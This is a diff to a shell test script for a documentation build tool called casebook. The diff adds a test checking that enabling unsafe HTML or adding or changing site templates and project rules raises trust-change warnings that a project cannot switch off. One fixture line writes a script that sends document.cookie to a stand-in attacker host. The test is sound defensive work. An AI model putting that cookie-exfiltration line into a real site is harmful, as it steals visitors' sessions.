@@ -19,7 +19,13 @@
 #     notes and exit 0 after it, the manifest's `changes` levels lowering
 #     and raising categories;
 #   - build --since v1.0 and the default base (the previous tag) fill the
-#     changed markers (the count -v prints).
+#     changed markers (the count -v prints);
+#   - diff_trust, on a repository of its own: a commit that turns
+#     unsafe_html on and adds templates/site.js and rules/x.lua, then one
+#     that changes both files, give one trust-change warning each under
+#     check --against (gcc and JSON, exact lines and exit statuses), and a
+#     "trust" category in diff; the revision under review cannot silence
+#     the rule (a manifest setting, a project rule of the same id).
 
 DIFF_EXPECTED=$ROOT/tests/diff/expected
 
@@ -450,8 +456,8 @@ diff_since() {
 # Every kind of compiler/diff.c is documented in docs/diff.md with its
 # category and listed in the schema; nothing else is.
 diff_kinds() {
-  sed -n 's/^ *{"\([a-z-]*\)", \([BGSAC]\), ".*/\1 \2/p' "$ROOT/compiler/diff.c" |
-    sed 's/ B$/ breaking/; s/ G$/ gold/; s/ S$/ semantic/; s/ A$/ additive/; s/ C$/ cosmetic/' \
+  sed -n 's/^ *{"\([a-z-]*\)", \([BGSACT]\), ".*/\1 \2/p' "$ROOT/compiler/diff.c" |
+    sed 's/ B$/ breaking/; s/ G$/ gold/; s/ S$/ semantic/; s/ A$/ additive/; s/ C$/ cosmetic/; s/ T$/ trust/' \
       >"$TMP/diff/kinds.c"
   sed -n 's/^| `\([a-z-]*\)` | \([a-z]*\) | .*/\1 \2/p' "$ROOT/docs/diff.md" >"$TMP/diff/kinds.md"
   tr ',' '\n' <"$ROOT/schemas/diff.schema.json" | sed -n 's/^ *"\([a-z]*-[a-z-]*\)" *\]* *$/\1/p' |
@@ -477,6 +483,131 @@ diff_kinds() {
   diff_status "diff without a revision" 2
 }
 
+# diff_trust: what the build trusts, on a repository of its own
+# ($TMP/diff/trust): commit 1 a plain project, commit 2 unsafe_html on,
+# templates/site.js and rules/x.lua added, commit 3 both files changed.
+diff_trust() {
+  saved_repo=$DIFF_REPO
+  DIFF_REPO=$TMP/diff/trust
+  rm -rf "$DIFF_REPO"
+  mkdir -p "$DIFF_REPO/templates" "$DIFF_REPO/rules"
+  if ! diff_git -c init.defaultBranch=main init -q .; then
+    fail "diff trust: git init"
+    DIFF_REPO=$saved_repo
+    return
+  fi
+  printf 'title = "Trust"\nversion = "1.0.0"\nunsafe_html = false\n' >"$DIFF_REPO/casebook.lua"
+  printf '# Trust\n\nSome prose.\n' >"$DIFF_REPO/guide.md"
+  diff_commit 1 "a plain project"
+  printf 'title = "Trust"\nversion = "1.0.0"\nunsafe_html = true\n' >"$DIFF_REPO/casebook.lua"
+  printf 'document.title = "x";\n' >"$DIFF_REPO/templates/site.js"
+  printf 'return { id = "x", check = function() end }\n' >"$DIFF_REPO/rules/x.lua"
+  diff_commit 2 "unsafe_html, a site script and a rule"
+  printf 'fetch("https://attacker.invalid/?" + document.cookie);\n' >"$DIFF_REPO/templates/site.js"
+  printf 'return { id = "x", check = function() end, summary = "x" }\n' >"$DIFF_REPO/rules/x.lua"
+  diff_commit 3 "the script and the rule changed"
+
+  # check --against: one warning per change, at the manifest's key or at
+  # the file; warnings alone leave the exit status 0
+  diff_run 60 sh -c "cd '$DIFF_REPO' && '$CASEBOOK' check --rev HEAD~1 --against HEAD~2"
+  diff_status "trust: check --against a commit that trusts more" 0
+  grep -E '\[trust-change\]$' "$DIFF_OUT" >"$TMP/diff/trust-added.txt"
+  {
+    echo "casebook.lua:3:1: warning: trust change [unsafe-html-enabled]: the manifest turned unsafe_html on: raw HTML in the chapters now reaches the site and the exports [trust-change]"
+    echo "rules/x.lua: warning: trust change [rule-added]: project rule file 'rules/x.lua' was added [trust-change]"
+    echo "templates/site.js: warning: trust change [template-added]: project template 'templates/site.js' was added [trust-change]"
+  } >"$TMP/diff/trust-added.want"
+  if cmp -s "$TMP/diff/trust-added.want" "$TMP/diff/trust-added.txt"; then
+    pass "diff trust: the three warnings of check --against (gcc)"
+  else
+    diff -u "$TMP/diff/trust-added.want" "$TMP/diff/trust-added.txt" >"$TMP/why"
+    cat "$DIFF_OUT" >>"$TMP/why"
+    fail "diff trust: the three warnings of check --against (gcc)" "$TMP/why"
+  fi
+  diff_has "trust: the summary counts them" '^0 errors, 3 warnings, 0 notes$' "$DIFF_OUT"
+  diff_run 60 sh -c "cd '$DIFF_REPO' && '$CASEBOOK' check --rev HEAD~1 --against HEAD~2 --fail-on warning"
+  diff_status "trust: check --against --fail-on warning" 1
+
+  diff_run 60 sh -c "cd '$DIFF_REPO' && '$CASEBOOK' check --rev HEAD~1 --against HEAD~2 --format json"
+  diff_status "trust: check --against --format json" 0
+  node -e '
+    const d = JSON.parse(require("fs").readFileSync(process.argv[1], "utf8"));
+    for (const x of d.diagnostics)
+      if (x.rule === "trust-change")
+        console.log(JSON.stringify([x.file, x.line, x.column, x.severity, x.message]));
+  ' "$DIFF_OUT" >"$TMP/diff/trust-added.jsonl" 2>"$TMP/why"
+  {
+    echo '["casebook.lua",3,1,"warning","trust change [unsafe-html-enabled]: the manifest turned unsafe_html on: raw HTML in the chapters now reaches the site and the exports"]'
+    echo '["rules/x.lua",0,0,"warning","trust change [rule-added]: project rule file '"'rules/x.lua'"' was added"]'
+    echo '["templates/site.js",0,0,"warning","trust change [template-added]: project template '"'templates/site.js'"' was added"]'
+  } >"$TMP/diff/trust-added.jsonl.want"
+  if cmp -s "$TMP/diff/trust-added.jsonl.want" "$TMP/diff/trust-added.jsonl"; then
+    pass "diff trust: the three warnings of check --against (json)"
+  else
+    diff -u "$TMP/diff/trust-added.jsonl.want" "$TMP/diff/trust-added.jsonl" >>"$TMP/why"
+    fail "diff trust: the three warnings of check --against (json)" "$TMP/why"
+  fi
+
+  # the working tree (commit 3) against commit 2: both files changed
+  diff_run 60 sh -c "cd '$DIFF_REPO' && '$CASEBOOK' check --against HEAD~1"
+  diff_status "trust: check --against, files changed" 0
+  grep -E '\[trust-change\]$' "$DIFF_OUT" >"$TMP/diff/trust-changed.txt"
+  {
+    echo "rules/x.lua: warning: trust change [rule-changed]: project rule file 'rules/x.lua' changed [trust-change]"
+    echo "templates/site.js: warning: trust change [template-changed]: project template 'templates/site.js' changed [trust-change]"
+  } >"$TMP/diff/trust-changed.want"
+  if cmp -s "$TMP/diff/trust-changed.want" "$TMP/diff/trust-changed.txt"; then
+    pass "diff trust: a changed template and rule file are warnings"
+  else
+    diff -u "$TMP/diff/trust-changed.want" "$TMP/diff/trust-changed.txt" >"$TMP/why"
+    fail "diff trust: a changed template and rule file are warnings" "$TMP/why"
+  fi
+  diff_run 60 sh -c "cd '$DIFF_REPO' && '$CASEBOOK' check --against HEAD"
+  if grep -q 'trust-change' "$DIFF_OUT"; then
+    fail "diff trust: nothing to report against the same commit" "$DIFF_OUT"
+  else
+    pass "diff trust: nothing to report against the same commit"
+  fi
+
+  # diff shows them in a category of their own
+  diff_run 60 "$CASEBOOK" diff HEAD~2 HEAD~1 "$DIFF_REPO"
+  diff_status "trust: diff without breaking changes" 0
+  sed "s#$DIFF_REPO/#REPO/#" "$DIFF_OUT" >"$TMP/diff/trust.text"
+  diff_golden trust.text "$TMP/diff/trust.text"
+  diff_run 60 "$CASEBOOK" diff HEAD~2 HEAD "$DIFF_REPO" --format markdown
+  cp "$DIFF_OUT" "$TMP/diff/trust.markdown"
+  diff_golden trust.markdown "$TMP/diff/trust.markdown"
+  diff_run 60 "$CASEBOOK" diff HEAD~2 HEAD~1 "$DIFF_REPO" --format json
+  cp "$DIFF_OUT" "$TMP/diff/trust.json"
+  diff_golden trust.json "$TMP/diff/trust.json"
+  ajv=$ROOT/tests/diff/node_modules/.bin/ajv
+  if [ -x "$ajv" ]; then
+    if "$ajv" validate --spec=draft2020 --allow-union-types \
+      -s "$ROOT/schemas/diff.schema.json" -d "$TMP/diff/trust.json" >"$TMP/why" 2>&1; then
+      pass "diff trust: the JSON is valid against schemas/diff.schema.json"
+    else
+      fail "diff trust: the JSON is valid against schemas/diff.schema.json" "$TMP/why"
+    fi
+  fi
+
+  # the revision under review cannot silence the gate: neither its
+  # manifest nor a project rule with the same id
+  printf 'title = "Trust"\nversion = "1.0.0"\nunsafe_html = true\nrules = { ["trust-change"] = "off" }\n' \
+    >"$DIFF_REPO/casebook.lua"
+  printf 'return { id = "trust-change", check = function() end }\n' >"$DIFF_REPO/rules/y.lua"
+  diff_run 60 sh -c "cd '$DIFF_REPO' && '$CASEBOOK' check --against HEAD~2"
+  diff_status "trust: a project rule replacing trust-change is an error" 1
+  diff_has "trust: the manifest cannot turn trust-change off" \
+    '^casebook\.lua:3:1: warning: trust change \[unsafe-html-enabled\]' "$DIFF_OUT"
+  diff_has "trust: the impostor rule file is itself reported" \
+    "^rules/y\\.lua: warning: trust change \\[rule-added\\]: project rule file 'rules/y\\.lua' was added \\[trust-change\\]\$" "$DIFF_OUT"
+  diff_has "trust: a project rule cannot replace trust-change" \
+    "^rules/y\\.lua:1:1: error: rule id 'trust-change' is built in and cannot be replaced by a project rule; this one is ignored \\[rule-error\\]\$" "$DIFF_OUT"
+  rm -f "$DIFF_REPO/rules/y.lua"
+  diff_git checkout -q -- casebook.lua
+  DIFF_REPO=$saved_repo
+}
+
 layer_diff() {
   if [ ! -x "$CASEBOOK" ]; then
     fail "diff: $CASEBOOK is missing"
@@ -498,4 +629,5 @@ layer_diff() {
   diff_schema
   diff_check
   diff_since
+  diff_trust
 }
